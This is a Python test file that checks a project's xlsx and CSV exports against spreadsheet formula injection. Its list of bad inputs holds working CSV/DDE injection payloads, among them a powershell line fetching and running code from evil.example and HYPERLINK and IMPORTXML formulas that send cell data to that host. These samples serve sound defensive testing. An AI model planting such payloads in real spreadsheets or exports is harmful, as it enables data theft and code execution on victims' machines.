"""Formula injection: text that a spreadsheet could run stays text in the workbook (a text cell, its value
unchanged) and gets OWASP's leading quote in the CSV files; nothing else is touched."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from spcp.exports import registry
from spcp.exports.tables import BOOL, INT, TEXT, Column, ExportTables, table
from spcp.i18n import translator

BAD = [
    '=1+1', '+cmd', '-2', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0", "+cmd|' /C powershell IEX(wget evil.example/s)'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', '==1', '=', '+', '-', '@',
    '#N/A', '#REF!', '#DIV/0!', '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")', '=1+1\n=2+2',
]
HARMLESS = ['1+1', 'x=1', 'Ana @ the station', ' =starts with a space', '’=quote', 'مرحبا =1', 'नमस्ते', '🙂=1']


@pytest.fixture(scope='module')
def export() -> ExportTables:
    tr = translator('en')
    rows = [(text, i, i % 2 == 0) for i, text in enumerate(BAD + HARMLESS)]
    columns = (Column('text', 'Issue', TEXT), Column('n', 'Dots', INT), Column('flag', 'From paper', BOOL))
    return ExportTables('en', '=evil event', None, None, (), (), 0, 0, {'issues': table('issues', 'Issues', columns,
                                                                                         rows, tr)})


def rendered(export: ExportTables, fmt: str) -> bytes:
    out = io.BytesIO()
    registry.RENDERERS[fmt].render(export, out)
    return out.getvalue()


def test_xlsx_keeps_every_bad_text_as_a_text_cell(export) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(rendered(export, 'xlsx')))['Issues']
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == BAD + HARMLESS          # unchanged, one for one
    assert {c.data_type for c in cells} == {'s'}                # never 'f' (formula) nor 'e' (error)
    assert all(c.quotePrefix for c in cells[:len(BAD)] if c.value[0] in '=+-@\t\r')
    assert not any(c.quotePrefix for c in cells[len(BAD):])
    numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in numbers} == {'n'}


def test_xlsx_has_no_formula_anywhere(export) -> None:
    archive = zipfile.ZipFile(io.BytesIO(rendered(export, 'xlsx')))
    sheets = [name for name in archive.namelist() if name.startswith('xl/worksheets/')]
    assert sheets and not any(b'<f>' in archive.read(name) or b'<f ' in archive.read(name) for name in sheets)


def test_csv_quotes_what_could_run_and_nothing_else(export) -> None:
    archive = zipfile.ZipFile(io.BytesIO(rendered(export, 'csv')))
    text = archive.read('01-issues.csv').decode('utf-8-sig')
    rows = list(csv.reader(io.StringIO(text, newline='')))
    assert rows[0] == ['Issue', 'Dots', 'From paper']
    values = [r[0] for r in rows[1:]]
    assert values == ["'" + v if v[0] in '=+-@\t\r' else v for v in BAD] + HARMLESS
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(BAD + HARMLESS))]  # numbers untouched
